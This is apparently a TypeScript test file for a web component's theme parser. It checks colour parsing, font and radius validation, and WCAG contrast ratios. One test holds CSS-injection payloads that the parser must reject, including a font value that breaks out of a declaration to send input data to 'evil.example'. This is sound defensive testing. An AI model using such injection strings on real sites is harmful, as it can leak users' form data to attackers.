import { expect } from '@open-wc/testing';
import fc from 'fast-check';

import { tokens } from '../styles/base.ts';
import { contrast, findFont, findRadius, parseTheme, type Rgb, standOut } from './theme.ts';

const WHITE: Rgb = [1, 1, 1];
const BLACK: Rgb = [0, 0, 0];
const DARK: Rgb = [0.082, 0.098, 0.11];

const [LIGHT_TOKENS, DARK_TOKENS] = tokens.cssText.split('@media') as [string, string];
const PALETTES = [
  { line: '--theme-line', tintPart: 0.07, token: (name: string) => hexToken(LIGHT_TOKENS, name) },
  {
    line: '--theme-line-dark',
    tintPart: 0.12,
    token: (name: string) => hexToken(DARK_TOKENS, name),
  },
];

describe('theme', () => {
  let probe: HTMLElement;
  beforeEach(() => {
    probe = document.createElement('div');
    document.body.append(probe);
  });
  afterEach(() => probe.remove());

  it('the theme takes a colour in any notation, a length and font names', () => {
    expect(
      parseTheme({ accent: '#0b6b4f', radius: '0.5rem', font: "'Open Sans', Arial" }, probe),
    ).to.deep.equal({
      '--theme-fill': 'rgb(11 107 79)',
      '--theme-on-fill': '#fff',
      '--theme-shade': '#000',
      '--theme-line': 'rgb(11 107 79)',
      '--theme-line-dark': 'rgb(48 129 105)',
      '--theme-radius': '8px',
      '--theme-font': "'Open Sans', Arial",
    });
    for (const accent of ['rebeccapurple', 'rgb(102 51 153)', 'hsl(270deg 50% 40%)']) {
      expect(parseTheme({ accent }, probe)['--theme-fill']).to.equal('rgb(102 51 153)');
    }
  });

  it('the theme drops whatever else a page sends (T22)', () => {
    const font = 'x;} input{background:url(https://evil.example/?';
    expect(
      parseTheme({ accent: 'url(https://evil.example/)', radius: 'calc(1px)', font }, probe),
    ).to.deep.equal({});
    for (const accent of [
      'var(--x)',
      'inherit',
      'transparent',
      '#0b6b4f80',
      'red;',
      '',
      'x'.repeat(10_000),
      7,
      null,
    ]) {
      expect(parseTheme({ accent }, probe), String(accent)).to.deep.equal({});
    }
    expect(
      [' ', 'a,,b', 'a"b', 'url(x)', 'a\\62', '-'.repeat(201), undefined].map(findFont),
    ).to.deep.equal(Array(7).fill(undefined));
    expect(['-1px', '1e3px', '1', 'x', '', null].map(findRadius)).to.deep.equal(
      Array(6).fill(undefined),
    );
    expect(findRadius('900px')).to.equal(24);
    expect(findRadius('0')).to.equal(0);
  });

  it('the theme can be read in any accent: on buttons, under the pointer too, and by lines on every surface of both palettes', () => {
    const byte = fc.nat(255);
    fc.assert(
      fc.property(fc.tuple(byte, byte, byte), (bytes) => {
        const theme = parseTheme({ accent: `rgb(${bytes.join(' ')})` }, probe);
        const text = theme['--theme-on-fill'] === '#fff' ? WHITE : BLACK;
        const shade = theme['--theme-shade'] === '#fff' ? WHITE : BLACK;

        expect(theme['--theme-fill']).to.equal(`rgb(${bytes.join(' ')})`);
        expect(contrast(rgb(bytes), text)).to.be.at.least(4.5);
        expect(contrast(mix(rgb(bytes), shade, 0.1), text)).to.be.at.least(4.5);
        for (const { line, tintPart, token } of PALETTES) {
          const drawn = rgbOf(theme[line]!);
          const tint = mix(token('surface'), drawn, tintPart);
          for (const surface of [token('surface'), token('soft'), tint])
            expect(contrast(drawn, surface)).to.be.at.least(3);
          expect(contrast(token('text'), tint)).to.be.at.least(4.5);
        }
      }),
      { examples: [[[255, 0, 225]], [[6, 32, 198]]], numRuns: 500 },
    );
  });

  it('the theme has palettes whose own text can be read and whose own boundaries have enough contrast', () => {
    for (const { token } of PALETTES) {
      const at = (one: string, other: string) => contrast(token(one), token(other));
      for (const surface of ['surface', 'soft']) {
        for (const text of ['text', 'quiet', 'wrong', 'waiting'])
          expect(at(text, surface), `${text} on ${surface}`).to.be.at.least(4.5);
        expect(at('boundary', surface), `boundary on ${surface}`).to.be.at.least(3);
      }
      for (const tone of ['wrong', 'waiting']) {
        for (const text of ['text', tone])
          expect(at(text, `${tone}-tint`), `${text} on ${tone}-tint`).to.be.at.least(4.5);
      }
    }
  });

  it('the theme has a contrast of 3 : 1 to the last digit', () => {
    const part = fc.double({ min: 0, max: 1, noNaN: true });
    fc.assert(
      fc.property(fc.tuple(part, part, part), fc.constantFrom(WHITE, DARK), (colour, surface) => {
        expect(contrast(standOut(colour, surface), surface)).to.be.at.least(3);
      }),
    );
  });
});

function hexToken(css: string, name: string): Rgb {
  const hex = new RegExp(`--${name}: #([0-9a-f]+);`).exec(css)![1]!;
  const full = hex.length === 3 ? hex.replace(/./g, '$&$&') : hex;
  return rgb(full.match(/../g)!.map((pair) => Number.parseInt(pair, 16)));
}

function mix(one: Rgb, other: Rgb, part: number): Rgb {
  return one.map((value, index) => value + (other[index]! - value) * part) as unknown as Rgb;
}

function rgb(bytes: readonly number[]): Rgb {
  return bytes.map((byte) => byte / 255) as unknown as Rgb;
}

function rgbOf(css: string): Rgb {
  return rgb(css.match(/\d+/g)!.map(Number));
}
